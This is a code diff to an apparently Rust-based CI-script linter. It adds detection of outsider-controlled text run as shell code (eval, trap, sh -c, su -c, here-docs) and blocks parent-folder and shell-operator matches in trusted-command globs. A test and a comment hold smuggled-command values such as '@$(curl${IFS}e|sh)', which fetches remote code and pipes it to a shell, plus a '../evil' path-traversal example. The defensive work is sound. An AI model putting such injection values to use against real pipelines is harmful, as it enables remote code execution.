@@ -575,8 +575,18 @@ pub fn glob_match(glob: &str, text: &str) -> bool {
     count_fits && globs.iter().zip(&words).all(|(g, w)| word_glob_match(g, w))
 }
 
-/// `*` matches any run of characters; everything else matches itself.
+/// `*` matches any run of characters; everything else matches itself. What a `*`
+/// may stand for excludes a parent folder (`..`) and the shell's expansions and
+/// operators: `git+https://github.com/org/*` does not trust `…/org/../evil/x`, nor
+/// `tool@*` a `tool@$(curl …)`.
 fn word_glob_match(glob: &str, text: &str) -> bool {
+    const NEVER_BY_STAR: &[&str] = &["..", "$", "`", "(", ")", ";", "|", "&", "<", ">"];
+    if NEVER_BY_STAR
+        .iter()
+        .any(|d| text.contains(d) && !glob.contains(d))
+    {
+        return false;
+    }
     let parts: Vec<&str> = glob.split('*').collect();
     if parts.len() == 1 {
         return glob == text;
@@ -907,6 +917,9 @@ const FREE_TEXT: &[&str] = &[
     "CI_COMMIT_AUTHOR",
 ];
 
+/// How deep shell code inside shell code (`sh -c '…'` in a quoted here-doc) is read.
+const MAX_NESTED_SHELLS: usize = 3;
+
 /// Where a variable's outsider-controlled text came from: the outsider variable, and
 /// where it was copied into this one (`None` for an outsider variable itself).
 #[derive(Clone)]
@@ -924,6 +937,11 @@ struct Tainted {
 }
 
 impl Tainted {
+    fn clone_all(&self) -> Tainted {
+        Tainted {
+            copies: self.copies.clone(),
+        }
+    }
     fn of(&self, name: &str) -> Option<Taint> {
         if OUTSIDER_VARIABLES.contains(&name) {
             return Some(Taint {
@@ -958,24 +976,31 @@ impl Tainted {
 }
 
 /// PL6001: outsider-controlled text (an outsider variable, or a variable copied from
-/// one) run as code: in the string `eval` runs or the command of `sh -c`, piped or fed
-/// as a here-doc into a shell; and free text expanded unquoted in a command's
+/// one) run as code: in the string `eval` or `trap` runs, the command of `sh -c` or
+/// `su -c` (and the shell code inside it, or in a quoted here-doc, read again), piped
+/// or fed as a here-doc into a shell; and free text expanded unquoted in a command's
 /// arguments (where the shell splits and globs it).
 pub fn untrusted_input(cx: &JobCx) -> Vec<ScriptHit> {
     let mut hits = Vec::new();
-    let mut tainted = Tainted::default();
+    let mut from_env = Tainted::default();
     for b in &cx.job.env {
         if let plumb_semantics::ValueKind::Str(text) = &b.value.kind {
-            let from = tainted.among(expansions(text).iter()).map(|(_, t)| t);
-            tainted.assign(&b.name, from, b.value.origin);
+            let from = from_env.among(expansions(text).iter()).map(|(_, t)| t);
+            from_env.assign(&b.name, from, b.value.origin);
         }
     }
-    for script in cx.scripts() {
+    let mut tainted = from_env.clone_all();
+    let fresh_shell_at = cx.job.run_script_count();
+    for (n, script) in cx.scripts().iter().enumerate() {
+        if n == fresh_shell_at {
+            // `after_run` runs in a new shell: only the job's variables reach it
+            tainted = from_env.clone_all();
+        }
         let locate = Locator::new(cx.sources, script.text, script.origin);
         let mut previous: Option<&Command> = None;
         for c in &script.commands {
-            untrusted_in_command(cx, script, c, previous, &tainted, &mut hits);
-            for (name, word) in c.assigned_words() {
+            untrusted_in_command(cx, script, c, previous, &tainted, 0, &mut hits);
+            for (name, word) in persistent_assignments(c) {
                 let from = tainted.among(word.vars.iter()).map(|(_, t)| t);
                 tainted.assign(name, from, locate.range(word.start, word.end));
             }
@@ -983,6 +1008,39 @@ pub fn untrusted_input(cx: &JobCx) -> Vec<ScriptHit> {
         }
     }
     hits
+}
+
+/// The assignments of a command that outlive it: `NAME=value` standing alone (also
+/// after `then`, `do`, `{`), and the arguments of `export`, `local`, `declare`,
+/// `readonly`, `typeset`. `NAME=value cmd` sets the variable for `cmd` only.
+fn persistent_assignments(c: &Command) -> Vec<(&str, &Word)> {
+    let standalone = c.name().is_none();
+    let mut out: Vec<(&str, &Word)> = if standalone {
+        c.assignments.iter().map(|(n, w)| (n.as_str(), w)).collect()
+    } else {
+        Vec::new()
+    };
+    if standalone {
+        for w in &c.words {
+            if let Some((name, _)) = w.text.split_once('=') {
+                if crate::shell::is_name(name) {
+                    out.push((name, w));
+                }
+            }
+        }
+    }
+    out.extend(
+        c.assigned_words()
+            .into_iter()
+            .filter(|_| !standalone)
+            .filter(|(name, w)| {
+                // `assigned_words` also gives the prefix assignments: only the arguments count
+                !c.assignments
+                    .iter()
+                    .any(|(n, a)| n == name && std::ptr::eq(a, *w))
+            }),
+    );
+    out
 }
 
 /// The PL6001 findings of one command (`previous` is the command before it, whose
@@ -993,9 +1051,12 @@ fn untrusted_in_command(
     c: &Command,
     previous: Option<&Command>,
     tainted: &Tainted,
+    depth: usize,
     hits: &mut Vec<ScriptHit>,
 ) {
     let Some(name) = c.name() else { return };
+    // shell code inside shell code is read again, a few levels deep
+    let nested = depth < MAX_NESTED_SHELLS;
     let locate = Locator::new(cx.sources, script.text, script.origin);
     let hit = |v: &VarRef, t: &Taint, how: String, fixes: Vec<Fix>| {
         let what = match &t.copied_at {
@@ -1014,6 +1075,12 @@ fn untrusted_in_command(
             fixes,
         }
     };
+    // the command's own `NAME=value` prefixes reach it (`M="$X" sh -c '…'`)
+    let mut here = tainted.clone_all();
+    for (var, word) in &c.assignments {
+        let from = tainted.among(word.vars.iter()).map(|(_, t)| t);
+        here.assign(var, from, locate.range(word.start, word.end));
+    }
     // fed to a shell on standard input: piped from the command before, or a here-doc
     if runs_stdin(c) {
         let piped = previous
@@ -1025,13 +1092,17 @@ fn untrusted_in_command(
                     .collect::<Vec<_>>()
             })
             .unwrap_or_default();
-        if let Some((v, t)) = tainted.among(piped.into_iter().chain(c.stdin_vars())) {
+        if let Some((v, t)) = here.among(piped.into_iter().chain(c.stdin_vars())) {
             hits.push(hit(
                 v,
                 &t,
                 format!("run as code by `{name}` on its input"),
                 Vec::new(),
             ));
+        }
+        // a quoted here-doc: the shell reads it as a script of its own
+        if nested && c.heredoc_vars.is_empty() && !c.heredoc_text.is_empty() {
+            inner_script(cx, script, c, (&c.heredoc_text, depth), &here, hits);
         }
     }
     // no splitting inside `[[ … ]]`, `case WORD`, or an assignment
@@ -1040,10 +1111,12 @@ fn untrusted_in_command(
     }
     let code = code_words(c, name);
     for (i, w) in c.args().iter().enumerate() {
+        if nested && code.contains(&i) && w.vars.is_empty() {
+            // shell code in single quotes: the shell that runs it expands it
+            inner_script(cx, script, c, (&w.text, depth), &here, hits);
+        }
         for v in &w.vars {
-            let Some(t) = tainted.of(&v.name) else {
-                continue;
-            };
+            let Some(t) = here.of(&v.name) else { continue };
             let (how, fixes) = if code.contains(&i) {
                 (format!("run as code by `{name}`"), Vec::new())
             } else if !w.quoted && FREE_TEXT.contains(&t.outsider.as_str()) {
@@ -1061,27 +1134,108 @@ fn untrusted_in_command(
     }
 }
 
-/// The arguments a command runs as code: all of `eval`'s, and the command string after
-/// an interpreter's `-c` (the words after it are its positional parameters: data).
+/// Shell code a command hands to another shell as written (a single-quoted `-c`
+/// string, a quoted here-doc): read as a script of its own, where the outsider
+/// variables (in the environment) are as dangerous as outside. Found at the command.
+fn inner_script(
+    cx: &JobCx,
+    script: &ScannedScript,
+    c: &Command,
+    (code, depth): (&str, usize),
+    tainted: &Tainted,
+    hits: &mut Vec<ScriptHit>,
+) {
+    let inner = crate::shell::scan(code);
+    let mut found = Vec::new();
+    let inner_script = ScannedScript {
+        text: code,
+        origin: script.origin,
+        commands: Vec::new(),
+    };
+    // only what the environment passes on: outsider variables and exported copies
+    let env_only = tainted.clone_all();
+    let mut previous: Option<&Command> = None;
+    for ic in &inner {
+        untrusted_in_command(
+            cx,
+            &inner_script,
+            ic,
+            previous,
+            &env_only,
+            depth + 1,
+            &mut found,
+        );
+        previous = Some(ic);
+    }
+    let Some(name_word) = c.name_word() else {
+        return;
+    };
+    let at =
+        Locator::new(cx.sources, script.text, script.origin).range(name_word.start, name_word.end);
+    for f in found.into_iter().take(1) {
+        hits.push(ScriptHit {
+            at,
+            message: format!("the shell code `{}` runs: {}", name_word.text, f.message),
+            label: f.label,
+            related: None,
+            fixes: Vec::new(),
+        });
+    }
+}
+
+/// The arguments a command runs as code: all of `eval`'s, `trap`'s first, and the
+/// command string of an interpreter's (or `su`'s) `-c`; the words after that string
+/// are its positional parameters, data unless the string `eval`s them. An
+/// interpreter's other options and its script file (`python3 notify.py -c x`) are not
+/// code.
 fn code_words(c: &Command, name: &str) -> Vec<usize> {
     let args = c.args();
-    if name == "eval" {
-        return (0..args.len()).collect();
+    match name {
+        "eval" => return (0..args.len()).collect(),
+        "trap" => return if args.is_empty() { Vec::new() } else { vec![0] },
+        _ => {}
     }
-    if !is_interpreter(name) {
+    if name == "su" {
+        // `su USER -c CODE`
+        let c_at = args.iter().position(|a| a.text == "-c");
+        return c_at.map(|i| vec![i + 1]).unwrap_or_default();
+    }
+    let shell_like = matches!(base(name), "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash");
+    if !shell_like && !is_interpreter(name) {
         return Vec::new();
     }
-    // `-c`, or `-c` among bundled options (`sh -ec "…"`)
-    let is_c = |a: &Word| {
-        !a.quoted
-            && a.text.starts_with('-')
-            && !a.text.starts_with("--")
-            && a.text[1..].contains('c')
-    };
-    args.iter()
-        .position(is_c)
-        .map(|i| vec![i + 1])
-        .unwrap_or_default()
+    let mut i = 0;
+    while let Some(a) = args.get(i) {
+        let t = a.text.as_str();
+        if a.quoted || !t.starts_with('-') || t == "-" || t == "-m" {
+            return Vec::new(); // the script file, a module, or standard input
+        }
+        if t == "--" {
+            return Vec::new();
+        }
+        let is_c = t == "-c" || shell_like && !t.starts_with("--") && t[1..].contains('c');
+        if is_c {
+            // the command string: the next word that is not an option end
+            let mut j = i + 1;
+            while args.get(j).is_some_and(|a| {
+                a.text == "--" || !a.quoted && a.text.starts_with('-') && a.text.len() > 1
+            }) {
+                j += 1;
+            }
+            let Some(command) = args.get(j) else {
+                return Vec::new();
+            };
+            let runs_its_arguments = command.text.contains("eval");
+            let last = if runs_its_arguments {
+                args.len()
+            } else {
+                j + 1
+            };
+            return (j..last).collect();
+        }
+        i += 1;
+    }
+    Vec::new()
 }
 
 #[cfg(test)]
@@ -1118,6 +1272,15 @@ mod tests {
             !glob_match("ab*ba", "aba"),
             "the prefix and suffix may not overlap"
         );
+        // nor a parent folder, nor the shell's expansions
+        assert!(!glob_match(
+            "pip install git+https://github.com/myorg/*",
+            "pip install git+https://github.com/myorg/../evil/pkg"
+        ));
+        assert!(!glob_match(
+            "go install x/goimports@*",
+            "go install x/goimports@$(curl${IFS}e|sh)"
+        ));
     }
 
     #[test]
